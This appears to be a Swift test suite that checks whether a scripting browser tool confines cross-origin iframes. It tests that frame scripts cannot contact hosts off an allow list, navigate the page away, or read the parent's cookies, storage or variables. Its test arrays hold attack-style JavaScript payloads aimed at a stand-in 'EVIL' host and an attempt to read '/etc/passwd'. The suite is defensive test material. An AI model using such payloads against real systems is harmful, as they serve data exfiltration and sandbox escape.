import Foundation
import TestSupport
import Testing

/// The scripts of a frame of another origin, which run in a process of their own, reach nobody outside of
/// the list, and nothing of the page around them or of its origin.
@Suite("Doors of frames with scripts") struct FrameDoorTests {
    private static let tools = """
        <body><p id=p>FRAME</p><script>
        const done = t => { const q = document.createElement('p'); q.append(t); document.body.append(q) };
        const get = (url, init) => fetch(url, init).then(
          async r => done('GOT ' + r.type + ' ' + await r.text()), () => done('REFUSED'));
        const add = (name, set) => { const e = document.createElement(name); set(e);
          e.onload = () => done('REFUSED'); e.onerror = () => done('REFUSED');
          document.body.append(e) };
        const reach = f => { try { f(); done('GOT') } catch (e) { done('REFUSED ' + e.name) } };
        const sock = url => { try { const s = new WebSocket(url); s.onopen = () => done('GOT');
          s.onclose = e => done('REFUSED ' + e.code) } catch (e) { done('REFUSED ' + e.name) } };
        """

    private func dump(
        _ scenario: Scenario, page: String = "", frame body: String, _ attributes: String = "",
        headers: String = ""
    ) async throws -> Program.Result {
        scenario.servers.page(
            "/\(scenario.id)",
            scenario.filled(
                "<p>SHOWN</p><script>1;" + page + "</script><iframe id=f \(attributes)"
                    + " src=http://ALSO/ID-frame></iframe>"),
            type: "text/html; charset=utf-8", headers: "Set-Cookie: secret=GOT\r\n")
        scenario.servers.page(
            "/\(scenario.id)-frame", scenario.filled(Self.tools + body + "</script>"),
            type: "text/html; charset=utf-8", headers: headers)
        scenario.servers.page(
            "/\(scenario.id)-data", "GOT", type: "text/plain", headers: "")
        scenario.servers.route(
            "/\(scenario.id)-to-evil",
            "HTTP/1.1 307 Moved\r\nAccess-Control-Allow-Origin: *\r\nLocation: "
                + scenario.filled("http://EVIL/x")
                + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        return try await scenario.garth(
            rules: ["GOOD", "ALSO"], ["--dump", "--javascript", "on", "http://GOOD/ID"])
    }

    @Test("a frame asks, and nobody outside of the list is asked", arguments: framedDoors)
    func doors(door: String) async throws {
        let scenario = Scenario()
        let result = try await dump(scenario, frame: door)
        #expect(result.output.contains("SHOWN") && result.output.contains("REFUSED"), "\(result)")
        #expect(!result.output.contains("GOT") && !result.output.contains("root:"), "\(result)")
        #expect(result.status == 0)
        scenario.expectNoTrespass()
    }

    @Test(
        "a frame leads itself or the page away, and nobody outside of the list is asked",
        arguments: framedWays)
    func ways(way: String) async throws {
        let scenario = Scenario()
        let result = try await dump(scenario, frame: way + "; done('REFUSED')")
        #expect(result.output.contains("SHOWN"), "\(result)")
        #expect(!result.output.contains("GOT"), "\(result)")
        scenario.expectNoTrespass()
    }

    @Test("what is the page's own stays with the page", arguments: framedWalls)
    func walls(wall: String) async throws {
        let scenario = Scenario()
        let result = try await dump(
            scenario, page: "localStorage.secret = 'GOT'; var secret = 'GOT'", frame: wall)
        #expect(result.output.contains("SHOWN") && result.output.contains("REFUSED"), "\(result)")
        #expect(!result.output.contains("GOT"), "\(result)")
        scenario.expectNoTrespass()
    }

    @Test("a frame in a sandbox has the origin of nobody", arguments: framedWalls)
    func sandboxes(wall: String) async throws {
        let scenario = Scenario()
        let result = try await dump(
            scenario, page: "localStorage.secret = 'GOT'; var secret = 'GOT'", frame: wall,
            "sandbox=allow-scripts")
        #expect(result.output.contains("SHOWN") && !result.output.contains("GOT"), "\(result)")
        scenario.expectNoTrespass()
    }

    static let framedDoors = [
        "get('http://EVIL/a')",
        "get('http://EVIL/a', { method: 'POST', body: 'b', mode: 'no-cors' })",
        "get('/ID-to-evil')",
        "get('http://GOODNAME@EVIL/')",
        "get('http://127.0.0.9:PORT/')",
        "get('file:///etc/passwd')",
        "sock('ws://EVIL/')",
        "add('script', s => { s.src = 'http://EVIL/a.js' })",
        "add('script', s => { s.src = '/ID-to-evil' })",
        "add('link', l => { l.rel = 'stylesheet'; l.href = 'http://EVIL/a.css' })",
        "add('iframe', f => { f.src = 'http://EVIL/' })",
        "add('iframe', f => { f.src = '/ID-to-evil' })",
        "const e = new EventSource('http://EVIL/'); e.onerror = () => { e.close(); done('REFUSED') }",
        "try { const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"http://EVIL/\").then("
            + "() => postMessage(\"GOT\"), () => postMessage(\"REFUSED\"))'])));"
            + " w.onmessage = e => done(e.data) } catch (e) { done('REFUSED') }",
        "import('http://EVIL/a.js').then(() => done('GOT'), () => done('REFUSED'))",
    ]

    static let framedWays = [
        "location.href = 'http://EVIL/'",
        "location.replace('/ID-to-evil')",
        "top.location = 'http://EVIL/'",
        "parent.location.href = 'http://EVIL/'",
        "top.location.replace('/ID-to-evil')",
        "open('http://EVIL/', '_top')",
        "open('http://EVIL/')",
        "const f = document.createElement('form'); f.action = 'http://EVIL/'; f.target = '_top';"
            + " document.body.append(f); f.submit()",
        "const a = document.createElement('a'); a.href = 'http://EVIL/'; a.target = '_parent';"
            + " document.body.append(a); a.click()",
        "document.head.innerHTML = '<base href=http://EVIL/><meta http-equiv=refresh content=0>'",
    ]

    static let framedWalls = [
        "reach(() => parent.document.body)",
        "reach(() => parent.secret.length)",
        "reach(() => top.localStorage.secret.length)",
        "reach(() => parent.eval('1'))",
        "reach(() => frameElement.ownerDocument)",
        "reach(() => { parent.location.toString.call(parent.location); })",
        "reach(() => Object.getPrototypeOf(parent).constructor)",
        "reach(() => { parent.onmessage = 1 })",
        "reach(() => { delete parent.location })",
        "reach(() => { Object.defineProperty(parent, 'x', { value: 1 }) })",
        "done(/secret/.test(document.cookie) ? 'GOT' : 'REFUSED')",
        "reach(() => { if (localStorage.secret === undefined) throw new Error() })",
        "get('http://GOOD/ID-data')",
        "get('http://GOOD/ID-data', { credentials: 'include' })",
        "const c = new BroadcastChannel('c'); c.onmessage = () => done('GOT'); c.postMessage('x');"
            + " setTimeout(() => done('REFUSED'), 300)",
    ]
}
